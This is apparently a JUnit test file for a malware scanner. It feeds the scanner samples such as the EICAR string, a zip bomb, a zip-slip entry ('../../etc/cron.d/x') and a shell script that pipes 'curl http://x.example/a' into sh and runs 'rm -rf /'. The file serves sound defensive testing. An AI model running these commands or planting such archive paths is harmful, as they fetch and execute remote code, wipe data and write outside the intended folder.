package dev.airlock.image;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The scanner, on the host, with the sample as its payload. */
class ScannerTest {
    /** The test string of EICAR, in two parts so that nobody finds it here. */
    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*";

    @TempDir
    static Path folder;

    private static Image image;
    private static List<String> command;

    private record Scan(int exitCode, JsonNode report) {
        JsonNode file() {
            return report.path("files").path(0);
        }

        List<String> findings() {
            return file().path("findings").findValuesAsText("what");
        }
    }

    @BeforeAll
    static void build() throws Exception {
        ImageStore store = new ImageStore(folder.resolve("images"));
        Recipe.SCANNER.build(store, Optional.empty(), _ -> {});
        image = store.load(Recipe.SCANNER.image());
        command = OnHost.command(image, folder);
    }

    private static Scan scan(byte[] sample) throws Exception {
        OnHost.Ran ran = OnHost.run(command, image.environment(), sample, folder);
        assertThat(ran.err()).isEmpty();
        return new Scan(ran.exitCode(), new ObjectMapper().readTree(ran.out()));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] zip(String name, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        }
        return out.toByteArray();
    }

    @Test
    void a_harmless_text_is_described_and_nothing_is_found() throws Exception {
        Scan scan = scan(bytes("hello\n"));
        assertThat(scan.exitCode()).isZero();
        assertThat(scan.file().path("type").asText()).isEqualTo("text");
        assertThat(scan.file().path("bytes").asInt()).isEqualTo(6);
        assertThat(scan.file().path("sha256").asText())
                .isEqualTo("5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");
        assertThat(scan.findings()).isEmpty();
    }

    @Test
    void the_test_string_of_all_scanners_is_found_in_a_file_a_zip_and_a_gzip() throws Exception {
        assertThat(scan(bytes(EICAR)).findings()).containsExactly("eicar");
        assertThat(scan(bytes(EICAR)).exitCode()).isEqualTo(1);
        assertThat(scan(zip("a/b.txt", bytes(EICAR))).findings()).containsExactly("eicar");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes(EICAR));
        }
        assertThat(scan(out.toByteArray()).findings()).containsExactly("eicar");
    }

    @Test
    void a_program_is_known_by_its_first_bytes_and_is_not_run() throws Exception {
        assertThat(scan(bytes("\u007fELF\2\1\1" + "\0".repeat(57)))
                        .file()
                        .path("type")
                        .asText())
                .isEqualTo("elf");
        Scan script = scan(bytes("#!/bin/sh\ncurl http://x.example/a | sh\nrm -rf / \n"));
        assertThat(script.file().path("type").asText()).isEqualTo("script");
        assertThat(script.findings()).containsExactly("download-to-shell", "recursive-deletion");
    }

    @Test
    void an_archive_is_listed_and_a_member_that_would_leave_its_folder_is_found() throws Exception {
        Scan scan = scan(zip("../../etc/cron.d/x", bytes("y")));
        assertThat(scan.findings()).containsExactly("path-outside");
        assertThat(scan.file().at("/archive/entries/0/name").asText()).isEqualTo("../../etc/cron.d/x");
        assertThat(scan.file().at("/archive/all_contents_seen").asBoolean()).isTrue();
        assertThat(scan(zip("invoice.pdf.exe", bytes("y"))).findings()).containsExactly("double-ending");
    }

    @Test
    void a_bomb_is_found_without_being_unpacked() throws Exception {
        Scan scan = scan(zip("zeros", new byte[64 << 20]));
        assertThat(scan.findings()).containsExactly("bomb");
        assertThat(scan.file().at("/archive/all_contents_seen").asBoolean()).isFalse();
    }

    @Test
    void damaged_archives_and_noise_never_make_it_fail() throws Exception {
        byte[] good = zip("a", bytes("some text that deflates, some text that deflates"));
        Random random = new Random(20261128);
        for (int i = 0; i < 12; i++) {
            byte[] bad = good.clone();
            for (int flips = 0; flips < 6; flips++) {
                bad[4 + random.nextInt(bad.length - 4)] = (byte) random.nextInt();
            }
            assertThat(scan(bad).report().path("files"))
                    .as("seed 20261128, round %d", i)
                    .hasSize(1);
        }
        byte[] noise = new byte[1 << 16];
        random.nextBytes(noise);
        assertThat(scan(noise).file().path("entropy").asDouble()).isGreaterThan(7.9);
    }

    @Test
    void nothing_to_look_at_is_said_so() throws Exception {
        OnHost.Ran ran = OnHost.run(command, image.environment(), new byte[0], folder);
        assertThat(ran).isEqualTo(new OnHost.Ran(2, "", "nothing to look at: give a payload or input files\n"));
    }
}
